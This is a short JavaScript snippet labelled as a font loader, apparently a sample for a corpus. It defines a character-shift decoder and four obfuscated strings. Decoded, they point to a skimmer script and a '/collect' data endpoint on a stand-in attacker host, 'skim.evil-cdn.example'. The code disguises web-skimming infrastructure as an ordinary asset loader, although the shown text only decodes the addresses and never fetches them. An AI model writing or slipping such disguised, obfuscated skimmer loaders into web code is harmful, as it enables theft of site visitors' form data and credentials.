// font loader (a corpus sample: every byte moved by a constant)
function d(s, k) { var o = ''; for (var i = 0; i < s.length; i++) { o += String.fromCharCode(s.charCodeAt(i) - k); } return o; }
var u = d('iuuqt;00tljn/fwjm.deo/fybnqmf0d/kt', 1);
var c = decodeURIComponent(d('iuuqt&4B&3G&3Gtljn/fwjm.deo/fybnqmf&3Gdpmmfdu', 1));
var r = d(',,phfj+bsfi*`ak+bu^jmib,`+gp', -3);
var x = d('\x6a\x76\x76\x72\x75\x3c\x31\x31\x75\x6d\x6b\x6f\x30\x67\x78\x6b\x6e\x2f\x65\x66\x70\x30\x67\x7a\x63\x6f\x72\x6e\x67\x31\x65\x30\x6c\x75', 2);
